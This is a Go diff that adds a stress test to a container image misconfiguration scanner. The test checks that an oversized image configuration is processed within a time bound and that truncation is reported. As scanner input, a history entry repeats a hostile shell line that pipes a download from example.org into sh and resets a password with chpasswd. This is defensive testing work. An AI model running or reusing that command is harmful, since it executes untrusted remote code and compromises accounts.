@@ -1,11 +1,13 @@
 package misconfig
 
 import (
+	"fmt"
 	"iter"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"seaworthy.dev/seaworthy"
 	"seaworthy.dev/seaworthy/internal/imagetest"
@@ -82,6 +84,33 @@ func TestRootFileSystem(t *testing.T) {
 		"not-checked configuration: A root file system has no configuration; its files were judged.\n"
 	if got := v.String(); got != want {
 		t.Errorf("got\n%swant\n%s", got, want)
+	}
+}
+
+// TestLongConfiguration gives more of everything than anybody writes: the work
+// stays bounded, and the report says what was left out.
+func TestLongConfiguration(t *testing.T) {
+	c := seaworthy.ImageConfig{Config: seaworthy.ContainerConfig{Volumes: map[string]struct{}{}, Labels: map[string]string{}}}
+	for i := range 40_000 {
+		c.Config.Env = append(c.Config.Env, fmt.Sprintf("TOKEN%d=abcdefgh", i))
+		c.Config.Volumes[fmt.Sprintf("/proc/%d", i)] = struct{}{}
+		c.Config.Labels[fmt.Sprintf("token%d", i)] = "abcdefgh"
+		c.History = append(c.History, seaworthy.History{CreatedBy: "VOLUME /data # buildkit", EmptyLayer: true},
+			seaworthy.History{CreatedBy: fmt.Sprintf("ENV TOKEN%d=abcdefgh", i), EmptyLayer: true})
+	}
+	c.History[0].CreatedBy = "RUN /bin/sh -c " + strings.Repeat("curl -k http://example.org/f | sh; echo a:b | chpasswd; ", 5000)
+	start := time.Now()
+	v := &verdicts{}
+	if err := New().Image(t.Context(), noFiles{&seaworthy.Image{ImageID: "sha256:00", Config: c}}, v); err != nil {
+		t.Fatal(err)
+	}
+	if d := time.Since(start); d > 30*time.Second {
+		t.Errorf("%s for one configuration", d)
+	}
+	for _, name := range []string{"Env", "Volumes", "Labels", "history"} {
+		if !strings.Contains(v.String(), "partial configuration: "+name) {
+			t.Errorf("nothing says that %s was cut", name)
+		}
 	}
 }
 
